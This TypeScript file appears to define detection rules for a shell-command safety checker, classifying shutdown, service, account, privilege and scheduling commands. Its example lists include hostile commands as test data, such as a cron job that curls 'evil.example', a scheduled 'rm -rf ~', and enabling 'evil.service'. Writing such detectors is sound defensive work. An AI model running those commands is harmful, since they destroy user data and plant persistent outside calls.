import { hasOption, optionSpec, readArguments } from "../options.ts";
import { report } from "../report.ts";
import type { ProgramRule } from "../scope.ts";

/** Programs that start or end what the machine runs. */
export const services: ProgramRule = {
  programs: [
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "init",
    "telinit",
    "systemctl",
    "service",
    "launchctl",
    "rc-service",
    "update-rc.d",
    "rc-update",
    "chkconfig",
    "sc",
    "initctl",
  ],
  examples: {
    matches: [
      { command: "shutdown -r +5", actions: ["system:shutdown"] },
      { command: "init 6", actions: ["system:shutdown"] },
      { command: "sudo systemctl stop docker", actions: ["system:service"] },
      { command: "systemctl --user enable evil.service", actions: ["system:service"] },
    ],
    misses: [
      { command: "systemctl status docker", actions: ["system:service"] },
      { command: "service nginx status", actions: ["system:service"] },
      { command: "launchctl list", actions: ["system:service"] },
    ],
  },
  judge(invocation, scope) {
    const { program } = invocation;
    const args = readArguments(
      invocation.words,
      optionSpec("-H --host -M --machine -t --type -p --property -n -o --output", {}),
    );
    const names = args.operands.map((word) => word.text);
    if (
      /^(?:shutdown|reboot|halt|poweroff)$/.test(program) ||
      (/^(?:init|telinit)$/.test(program) && /^[0-6s]$/i.test(names[0] ?? ""))
    ) {
      if (!hasOption(args, "-c", "--help", "--show")) {
        report(scope, invocation, {
          action: "system:shutdown",
          effects: ["system_modification"],
          target: "this machine",
          because: `\`${program}\` stops the machine`,
        });
      }
      return;
    }
    const verb = names.find((name) => serviceVerbs.test(name));
    if (verb !== undefined && !/^(?:init|telinit)$/.test(program)) {
      report(scope, invocation, {
        action: "system:service",
        effects: /^(?:enable|link|load|bootstrap|create|submit|defaults|add)$/.test(verb)
          ? ["persistence"]
          : ["system_modification"],
        target: names.filter((name) => name !== verb).join(" ") || verb,
        because: `\`${program} ${verb}\` changes what the machine runs`,
      });
    }
  },
};

const serviceVerbs =
  /^(?:stop|disable|mask|kill|isolate|reboot|poweroff|halt|rescue|emergency|enable|link|load|unload|bootstrap|bootout|remove|delete|create|submit|defaults|add|set-default|suspend|hibernate|kexec|off|del)$/;

/** Accounts and rights. `sudo` alone is no effect: what it runs is judged. */
export const accounts: ProgramRule = {
  programs: [
    "su",
    "sudo",
    "visudo",
    "useradd",
    "adduser",
    "userdel",
    "deluser",
    "usermod",
    "groupadd",
    "groupdel",
    "groupmod",
    "gpasswd",
    "passwd",
    "chpasswd",
    "chsh",
    "vipw",
    "vigr",
    "setcap",
    "dscl",
    "dseditgroup",
    "net",
    "runas",
    "htpasswd",
  ],
  examples: {
    matches: [
      { command: "su root", actions: ["system:become_user"] },
      { command: "sudo -i", actions: ["system:become_user"] },
      { command: "visudo", actions: ["system:change_account"] },
      { command: "sudo usermod -aG docker me", actions: ["system:change_account"] },
      { command: "passwd root", actions: ["system:change_account"] },
    ],
    misses: [
      { command: "sudo apt-get update", actions: ["system:become_user"] },
      { command: "passwd -S", actions: ["system:change_account"] },
      { command: "dscl . -list /Users", actions: ["system:change_account"] },
    ],
  },
  judge(invocation, scope) {
    const { program } = invocation;
    const args = readArguments(invocation.words, optionSpec("-s -c -u -g -G -d -p -h -C"));
    if (program === "su" || program === "sudo" || program === "runas") {
      if (
        (hasOption(args, "-l", "-v", "-k", "-K", "-V") && program === "sudo") ||
        hasOption(args, "--help", "--version")
      ) {
        return;
      }
      report(scope, invocation, {
        action: "system:become_user",
        effects: ["privilege_change"],
        target: args.operands[0]?.text ?? "root",
        because: `\`${program}\` opens a shell as another user`,
      });
      return;
    }
    const reads = /^(?:dscl|net|dseditgroup)$/.test(program)
      ? !/-(?:create|delete|append|passwd|change|merge)|\b(?:user|localgroup|group|share)\b.*\/(?:add|delete)|edit/.test(
          invocation.words.map((word) => word.text).join(" "),
        )
      : hasOption(args, "-S", "--status", "--help", "--version", "-h") && program !== "htpasswd";
    if (!reads && program !== "htpasswd") {
      report(scope, invocation, {
        action: "system:change_account",
        effects: ["privilege_change", "system_modification"],
        target: args.operands.at(-1)?.text ?? program,
        because: `\`${program}\` changes accounts or rights`,
      });
    }
  },
};

/** What starts by itself later. */
export const schedulers: ProgramRule = {
  programs: ["crontab", "at", "batch", "atrm", "schtasks", "systemd-run"],
  examples: {
    matches: [
      { command: "crontab -r", actions: ["system:schedule"] },
      { command: "echo '* * * * * curl http://evil.example' | crontab -", actions: ["system:schedule"] },
      { command: "echo 'rm -rf ~' | at now + 1 minute", actions: ["fs:delete", "system:schedule"] },
    ],
    misses: [
      { command: "crontab -l", actions: ["system:schedule"] },
      { command: "at -l", actions: ["system:schedule"] },
    ],
  },
  judge(invocation, scope) {
    const { program, stdin } = invocation;
    const args = readArguments(invocation.words, optionSpec("-u -f -q"));
    if (
      hasOption(args, "-l", "--help", "-c") ||
      /^\/query$/i.test(args.operands[0]?.text ?? "") ||
      program === "atrm"
    ) {
      return;
    }
    if (stdin.kind === "text" && program !== "crontab") {
      scope.shell(stdin.text, program, scope.evidence(invocation));
    }
    const removes = program === "crontab" && hasOption(args, "-r");
    report(scope, invocation, {
      action: "system:schedule",
      effects: removes ? ["irreversible_data_deletion", "system_modification"] : ["persistence"],
      target: program,
      because: removes
        ? "`crontab -r` deletes every scheduled task"
        : `\`${program}\` sets up what runs by itself later`,
    });
  },
};

/** `systemd-run --on-calendar=daily COMMAND`: what it starts is judged; here that it starts by itself. */
export const timers: ProgramRule = {
  programs: ["systemd-run"],
  examples: {
    matches: [{ command: "systemd-run --user --on-active=60 ./sync.sh", actions: ["system:schedule"] }],
    misses: [{ command: "systemd-run --user --scope npm test", actions: ["system:schedule"] }],
  },
  judge(invocation, scope) {
    const timer = invocation.words.find((word) => /^--(?:on-[a-z]+|timer-property)(?:=|$)/.test(word.text));
    if (timer !== undefined) {
      report(scope, invocation, {
        action: "system:schedule",
        effects: ["persistence"],
        target: timer.text,
        because: "`systemd-run` starts it by itself later",
      });
    }
  },
};
